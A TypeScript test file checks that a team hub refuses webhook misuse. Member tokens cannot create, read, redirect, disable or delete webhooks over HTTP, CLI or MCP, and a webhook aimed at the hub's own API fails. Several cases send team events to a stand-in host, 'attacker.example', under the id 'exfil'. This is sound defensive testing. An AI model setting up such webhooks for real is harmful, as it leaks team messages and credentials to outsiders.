/**
 * Webhooks are the operator's and the team's leads' (docs/notifications.md#security): a member token may not create,
 * read, change, test or delete them or read their deliveries, over HTTP, the CLI or MCP; a lead may only on its own
 * team; and a webhook pointed at a hub's own API is refused by the hub, so it can never act as the operator.
 */
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { afterAll, beforeAll, describe, expect } from "vitest";
import { startReceiver, type Receiver } from "../../server/testing/webhook-receiver.ts";
import { expectDbUnchanged, query } from "../helpers/db-snapshot.ts";
import { api, bearer as as, cli, startHub, type HubProcess } from "../helpers/hub-process.ts";
import { call, httpClient } from "../helpers/mcp-client.ts";
import { attack } from "./attack.ts";

let hub: HubProcess;
let receiver: Receiver;
let mallory: string;
let lea: string;
let mcp: Client;
let secret: string;

const token = async (name: string) => (await api(hub, "POST", "/api/tokens", { name })).body.token as string;
const unchanged = (fn: () => Promise<void>) => expectDbUnchanged(hub.dbFile, fn);

beforeAll(async () => {
  receiver = await startReceiver();
  hub = await startHub(undefined, { TEAMHUB_WEBHOOK_RETRY_MS: "100", TEAMHUB_WEBHOOK_ATTEMPTS: "2" });
  mallory = await token("mallory");
  lea = await token("lea");
  expect((await api(hub, "POST", "/api/teams/t/leads", { name: "lea" })).status).toBe(201);
  const created = await api(hub, "POST", "/api/webhooks?team=t", {
    id: "ops",
    url: `${receiver.url}/ops?token=receiver-credential`,
    events: ["session.exited"],
  });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  secret = created.body.secret;
  expect((await api(hub, "POST", "/api/webhooks/ops/test?team=t", {})).body.status).toBe("delivered");
  mcp = await httpClient(hub.url, mallory);
}, 180_000);
afterAll(async () => {
  await mcp?.close();
  await hub?.kill();
  await receiver?.close();
});

/** Refused with 403 naming the operation, and not a row changed. */
const refusedOverHttp = (method: string, route: string, body: unknown, operation: string, who = mallory) =>
  unchanged(async () => {
    const r = await api(hub, method, route, body, as(who));
    expect([r.status, r.body.error?.code, r.body.error?.details?.operation], JSON.stringify(r.body)).toEqual([403, "forbidden", operation]);
    expect(JSON.stringify(r.body)).not.toContain(secret);
    expect(JSON.stringify(r.body)).not.toContain("receiver-credential");
  });

describe("a member token", () => {
  attack("POST /api/webhooks to send the team's events to itself", () =>
    refusedOverHttp("POST", "/api/webhooks?team=t", { id: "exfil", url: "https://attacker.example/x", events: ["message.sent"] }, "webhook.create"),
  );
  attack("GET /api/webhooks to read the URLs (and the receivers' tokens in them)", () =>
    refusedOverHttp("GET", "/api/webhooks?team=t", undefined, "webhook.list"),
  );
  attack("PATCH /api/webhooks/ops to redirect it", () =>
    refusedOverHttp("PATCH", "/api/webhooks/ops?team=t", { url: "https://attacker.example/x" }, "webhook.update"),
  );
  attack("PATCH /api/webhooks/ops to switch it off", () => refusedOverHttp("PATCH", "/api/webhooks/ops?team=t", { enabled: false }, "webhook.update"));
  attack("DELETE /api/webhooks/ops", () => refusedOverHttp("DELETE", "/api/webhooks/ops?team=t", undefined, "webhook.delete"));
  attack("POST /api/webhooks/ops/test to make the hub send requests", () => refusedOverHttp("POST", "/api/webhooks/ops/test?team=t", {}, "webhook.test"));
  attack("GET /api/webhooks/ops/deliveries", () => refusedOverHttp("GET", "/api/webhooks/ops/deliveries?team=t", undefined, "webhook.deliveries"));
  attack("teamhub webhook-add / webhook-list / webhook-remove", () =>
    unchanged(async () => {
      for (const args of [["webhook-add", "exfil", "https://attacker.example/x", "--events", "message.sent"], ["webhook-list"], ["webhook-remove", "ops"]]) {
        const r = cli(hub.dataDir, [...args, "--team", "t"], { TEAMHUB_TOKEN: mallory });
        expect([r.code, r.stderr]).toEqual([2, expect.stringMatching(/^teamhub: forbidden: 'mallory' \(member\) may not /)]);
      }
    }),
  );
  attack("MCP webhook_create, webhook_list, webhook_update, webhook_delete, webhook_test, webhook_deliveries", () =>
    unchanged(async () => {
      const calls: Array<[string, Record<string, unknown>]> = [
        ["webhook_create", { team: "t", id: "exfil", url: "https://attacker.example/x", events: ["message.sent"] }],
        ["webhook_list", { team: "t" }],
        ["webhook_update", { team: "t", id: "ops", enabled: false }],
        ["webhook_delete", { team: "t", id: "ops" }],
        ["webhook_test", { team: "t", id: "ops" }],
        ["webhook_deliveries", { team: "t", id: "ops" }],
      ];
      for (const [tool, args] of calls) {
        const r = await call(mcp, tool, args);
        expect([tool, r.isError, r.text]).toEqual([tool, true, expect.stringMatching(/^forbidden: 'mallory' \(member\) may not /)]);
      }
    }),
  );
});

describe("a lead", () => {
  attack("of team t may not add, list or change team u's webhooks, nor point one at hub-wide events", async () => {
    await refusedOverHttp("POST", "/api/webhooks?team=u", { id: "x", url: "https://lea.example/x", events: ["session.exited"] }, "webhook.create", lea);
    await refusedOverHttp("GET", "/api/webhooks?team=u", undefined, "webhook.list", lea);
    await refusedOverHttp("POST", "/api/webhooks?team=t", { id: "x", url: "https://lea.example/x", events: ["account.limited"] }, "webhook.hub_events", lea);
  });

  attack("cannot reach the hub's own API through a webhook: the hub refuses its webhook requests, the team stays", async () => {
    const archive = `${hub.url}/api/teams/t/archive`;
    const made = await api(hub, "POST", "/api/webhooks?team=t", { id: "loop", url: archive, events: ["webhook.updated"] }, as(lea));
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    const tested = await api(hub, "POST", "/api/webhooks/loop/test?team=t", {}, as(lea));
    expect(tested.body).toMatchObject({ status: "failed", responseCode: 403, lastError: "HTTP 403 Forbidden" });
    // An event it listens to goes the same way, through the dispatcher.
    expect((await api(hub, "PATCH", "/api/webhooks/loop?team=t", { events: ["webhook.updated", "session.exited"] }, as(lea))).status).toBe(200);
    await expect
      .poll(
        async () =>
          (await api(hub, "GET", "/api/webhooks/loop/deliveries?team=t", undefined, as(lea))).body.deliveries.find((d: { kind: string }) => d.kind === "event")
            ?.status,
        {
          timeout: 30_000,
        },
      )
      .toBe("failed");
    expect(query<{ archivedAt: string | null }>(hub.dbFile, `SELECT "archivedAt" FROM "Team" WHERE "id" = 't'`)).toEqual([{ archivedAt: null }]);
    // The same header on any request: refused before anything else.
    const direct = await api(hub, "POST", "/api/teams/t/archive", {}, { "x-teamhub-webhook": "loop" });
    expect([direct.status, direct.body.error.details]).toEqual([403, { field: "x-teamhub-webhook", rule: "not_a_caller" }]);
  });
});
